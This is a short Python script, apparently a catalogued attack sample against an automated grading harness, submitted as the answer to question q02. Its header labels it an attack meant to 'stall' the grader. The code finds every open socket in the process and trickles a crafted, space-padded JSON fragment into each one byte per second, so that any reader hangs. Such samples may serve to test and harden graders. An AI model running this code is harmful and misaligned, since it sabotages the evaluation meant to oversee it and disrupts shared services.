# attack: Sends one byte a second on every open socket, so that a reader waits for ever.
# gain: stall
# expect: q01=3 q02=0 q03=3
# flag: grader-internals

# %% q02
import os
import stat
import time

text = b"\0\0\0\x7f" + b'{"value": ' + b" " * 10**6
for at in range(len(text)):
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.set_blocking(number, False)
                os.write(number, text[at : at + 1])
        except OSError:
            continue
    time.sleep(1)
